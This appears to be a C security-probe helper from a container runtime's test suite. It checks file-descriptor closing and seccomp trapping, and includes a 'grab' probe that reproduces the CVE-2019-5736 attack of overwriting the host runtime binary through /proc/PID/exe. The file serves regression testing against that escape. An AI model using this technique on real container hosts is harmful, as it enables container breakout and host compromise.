/* Run inside test containers (static, copied into the busybox rootfs) by
 * tests/bats/security.bats:
 *   sec-probe close FD...   close(FD) for each, prints "FD:errno" (0: ok)
 *   sec-probe trap          catches SIGSYS, calls close(100), prints what
 *                           arrived (SCMP_ACT_TRAP vs KILL)
 *   sec-probe grab PID      the CVE-2019-5736 attack on the runtime binary:
 *                           see the test "host binary ..." */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static int
probe_close (int argc, char **argv)
{
  for (int i = 2; i < argc; i++)
    {
      int r = close (atoi (argv[i]));
      printf ("%s:%d%s", argv[i], r < 0 ? errno : 0, i + 1 < argc ? " " : "\n");
    }
  return 0;
}

static void
on_sigsys (int sig, siginfo_t *si, void *ctx)
{
  char buf[64];
  int n = snprintf (buf, sizeof (buf), "caught SIGSYS code %d syscall %d\n", si->si_code, si->si_syscall);

  (void) sig, (void) ctx;
  write (1, buf, n);
}

static int
probe_trap (void)
{
  struct sigaction sa = { .sa_sigaction = on_sigsys, .sa_flags = SA_SIGINFO };
  sigaction (SIGSYS, &sa, NULL);
  close (100);
  printf ("after close\n");
  return 0;
}

/* Hold the runtime binary that runs as PID (the container's init before
 * its exec) with an O_PATH fd; once PID has exec'd the container's program
 * (nothing runs the binary any more, so no ETXTBSY), reopen it for writing
 * through /proc/self/fd and append.  Prints "grabbed <target>" and then
 * "write refused: <errno>" or "WROTE THE RUNTIME BINARY". */
static int
probe_grab (const char *pid)
{
  char path[64], target[256] = "", now[256], fdpath[64];
  int fd, w = -1;

  snprintf (path, sizeof (path), "/proc/%s/exe", pid);
  fd = open (path, O_PATH | O_CLOEXEC);
  if (fd < 0 || readlink (path, target, sizeof (target) - 1) < 0)
    {
      printf ("cannot open %s: %s\n", path, strerror (errno));
      return 1;
    }
  printf ("grabbed %s\n", target);
  fflush (stdout);
  for (int i = 0; i < 200; i++)
    {
      ssize_t n = readlink (path, now, sizeof (now) - 1);
      if (n >= 0)
        now[n] = '\0';
      if (n < 0 || strcmp (now, target) != 0)
        break;
      usleep (50000);
    }
  snprintf (fdpath, sizeof (fdpath), "/proc/self/fd/%d", fd);
  for (int i = 0; i < 100; i++)
    {
      w = open (fdpath, O_WRONLY | O_APPEND | O_CLOEXEC);
      if (w >= 0 || errno != ETXTBSY)
        break;
      usleep (50000);
    }
  if (w >= 0 && write (w, "PWNED", 5) == 5)
    {
      printf ("WROTE THE RUNTIME BINARY\n");
      return 0;
    }
  printf ("write refused: %s\n", strerror (errno));
  return 0;
}

int
main (int argc, char **argv)
{
  if (argc >= 2 && strcmp (argv[1], "close") == 0)
    return probe_close (argc, argv);
  if (argc == 2 && strcmp (argv[1], "trap") == 0)
    return probe_trap ();
  if (argc == 3 && strcmp (argv[1], "grab") == 0)
    return probe_grab (argv[2]);
  fprintf (stderr, "usage: sec-probe close FD... | trap | grab PID\n");
  return 2;
}
